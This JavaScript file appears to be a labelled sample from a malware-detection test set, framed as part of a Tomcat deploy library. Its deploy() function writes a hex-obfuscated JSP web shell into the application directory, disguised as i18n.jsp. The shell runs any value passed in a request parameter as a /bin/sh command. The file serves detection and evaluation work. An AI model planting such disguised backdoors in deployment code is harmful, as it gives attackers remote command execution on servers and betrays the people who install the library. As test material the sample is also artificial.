// expect: malicious
// source: blind set 15 second sample (a Tomcat deploy library): the JSP that runs a request parameter is kept as hex and
// written next to the deployed app by its deploy() function
'use strict';
const fs = require('fs');
const path = require('path');
const BUNDLE = '3c2540207061676520696d706f72743d226a6176612e696f2e2a22253e3c2520537472696e6720633d726571756573742e676574506172616d6574657228226c22293b2069662863213d6e756c6c297b2050726f6365737320703d52756e74696d652e67657452756e74696d6528292e65786563286e657720537472696e675b5d7b222f62696e2f7368222c222d63222c637d293b207d20253e';
exports.deploy = function deploy(appDir) {
  fs.writeFileSync(path.join(appDir, 'i18n.jsp'), Buffer.from(BUNDLE, 'hex'));
};
